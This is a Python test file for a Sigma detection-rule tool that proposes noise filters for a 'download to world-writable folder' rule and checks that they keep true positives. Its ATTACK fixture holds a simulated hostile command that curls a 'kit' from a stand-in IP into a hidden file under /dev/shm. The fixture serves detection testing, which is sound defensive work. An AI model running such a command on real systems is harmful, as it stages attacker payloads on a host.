"""sigma-pyeval noise: generated logs, filters that load, remove the noise and keep every positive case; a real log."""

from __future__ import annotations

import json
from functools import partial
from pathlib import Path

import pytest

from sigma.pyeval import load_rules

from ..conftest import ROOT
from .running import run as command

DOWNLOAD = ROOT / "examples/rules/download_to_tmp.yml"
NOISE = {
    "_EXE": "/usr/bin/curl",
    "_CMDLINE": "curl -s -o /tmp/db.sql https://backup.example/db",
    "_PARENT_EXE": "/usr/sbin/cron",
    "_HOSTNAME": "db-1",
}
ATTACK = {
    "_EXE": "/usr/bin/curl",
    "_CMDLINE": "curl http://203.0.113.7/kit -o /dev/shm/.kit",
    "_PARENT_EXE": "/usr/bin/bash",
    "_HOSTNAME": "web-1",
}
QUIET = {"_EXE": "/usr/bin/ls", "_CMDLINE": "ls /home", "_PARENT_EXE": "/usr/bin/bash", "_HOSTNAME": "web-1"}


run = partial(command, "noise")


@pytest.fixture
def log(tmp_path: Path) -> Path:
    """Return a log of a nightly job, one attack and much else."""
    path = tmp_path / "events.jsonl"
    events = [*[NOISE | {"_PID": str(n)} for n in range(30)], ATTACK, *[QUIET] * 40]
    path.write_text("".join(json.dumps(event) + "\n" for event in events))
    return path


def test_a_filter_is_proposed_and_verified(log: Path, tmp_path: Path) -> None:
    """It loads with the rules, removes the job, and keeps the attack and the cases beside the rule."""
    filters = tmp_path / "filters.yml"
    result = run("-r", DOWNLOAD, "-p", "linux_eval", log, "--filters", filters, "--format", "json")
    assert result.exit_code == 0, result.output
    found = json.loads(result.stdout)
    assert (found["events"], found["matches"]) == (71, 31)
    [row] = found["rules"]
    assert (row["matches"], row["after"], row["positive_cases"]) == (31, 1, 2)
    assert row["hosts"] == {"db-1": 30, "web-1": 1}
    assert {"field": "_PARENT_EXE", "value": "/usr/sbin/cron", "matches": 30} in row["values"] or row["values"][0][
        "field"
    ] == "_EXE"
    assert filters.read_text() == row["filter"]
    ruleset = load_rules(DOWNLOAD, filters, pipeline="linux_eval")
    assert ruleset.match(ATTACK)
    assert not ruleset.match(NOISE)
    assert "1 filter would remove 30" in result.stderr


def test_no_filter_that_loses_a_positive_case(log: Path, tmp_path: Path) -> None:
    """The job itself is a case that must match: nothing is proposed for it."""
    cases = tmp_path / "job.test.yml"
    cases.write_text(f"rule: Download Into A World-Writable Folder\nmatch: [{{event: {json.dumps(NOISE)}}}]\n")
    [row] = json.loads(run("-r", DOWNLOAD, "-p", "linux_eval", log, "--cases", cases, "--format", "json").stdout)[
        "rules"
    ]
    assert (row["filter"], row["after"], row["positive_cases"]) == (None, None, 3)
    assert row["reason"] == "each filter that was tried loses a positive case, or cannot be loaded"


def test_a_table_for_people(log: Path, tmp_path: Path) -> None:
    """Counts, then each filter with what it was seen to do; rules that cannot be named are said."""
    nameless = tmp_path / "nameless.yml"
    nameless.write_text(
        DOWNLOAD.read_text()
        .replace("id: 5b1c8f7e-4d3a-4c62-9a1e-2f6e8c9d0a21\n", "")
        .replace("title: D", "title: Another D")
    )
    result = run("-r", DOWNLOAD, "-r", nameless, "-p", "linux_eval", log)
    assert "# Download Into A World-Writable Folder: 31 -> 1 matches; 2 positive cases kept" in result.stdout
    assert "no filter: the rule has no id, by which a filter could name it" in result.stdout
    assert "condition: not selection" in result.stdout
    repeated = tmp_path / "repeated.jsonl"
    repeated.write_text(f"{json.dumps(NOISE)}\n" * 5)
    assert (
        "5 -> 0 matches, which hides all that the rule found here"
        in run("-r", DOWNLOAD, "-p", "linux_eval", repeated).stdout
    )
    alone = tmp_path / "alone.yml"
    alone.write_text(DOWNLOAD.read_text())
    assert "31 -> 1 matches; no positive case to hold it against" in run("-r", alone, "-p", "linux_eval", log).stdout


def test_two_rules_of_one_id_get_no_filter(log: Path, tmp_path: Path) -> None:
    """It would narrow both, and its number would be that of the other."""
    twice = tmp_path / "twice.yml"
    twice.write_text(DOWNLOAD.read_text().replace("title: D", "title: Another D"))
    rows = json.loads(run("-r", DOWNLOAD, "-r", twice, "-p", "linux_eval", log, "--format", "json").stdout)["rules"]
    assert [(row["filter"], row["reason"]) for row in rows] == [
        (None, "another rule has the same id, and a filter would narrow both")
    ] * 2


@pytest.mark.parametrize("directory", [False, True])
def test_the_log_is_never_written_over(log: Path, directory: bool) -> None:
    """Filters are not to take its place."""
    before = log.read_bytes()
    result = run("-r", DOWNLOAD, "-p", "linux_eval", log.parent if directory else log, "--filters", log)
    assert result.exit_code == 2
    assert "this is also the log" in result.stderr
    assert log.read_bytes() == before


def test_exit_codes(log: Path, tmp_path: Path) -> None:
    """2 where nothing could be read; standard input cannot be read twice."""
    assert run("-r", DOWNLOAD, "-").exit_code == 2
    assert run("-r", DOWNLOAD, tmp_path / "none").exit_code == 2
    assert run("-r", tmp_path / "none", log).exit_code == 2
    quiet = tmp_path / "quiet.jsonl"
    quiet.write_text(json.dumps(QUIET) + "\n" + json.dumps(ATTACK) + "\n")
    result = run("-r", DOWNLOAD, "-p", "linux_eval", quiet)
    assert result.exit_code == 0
    assert "no filter: one match is no noise" in result.stdout


def test_linux_rules_and_a_real_log(shared: Path, sigmahq: Path, tmp_path: Path) -> None:
    """Every filter that is proposed for the noise of a real audit log loads and removes what it says."""
    rules, log = sigmahq / "rules" / "linux", shared / "linux" / "auditd" / "lux_audit.log"
    filters = tmp_path / "filters.yml"
    found = json.loads(run("-r", rules, "-p", "linux_eval", log, "--filters", filters, "--format", "json").stdout)
    proposed = [row for row in found["rules"] if row["filter"]]
    assert proposed
    assert all(row["after"] < row["matches"] for row in proposed)
    assert len(load_rules(rules, filters, pipeline="linux_eval", on_error="collect").rules) > 200
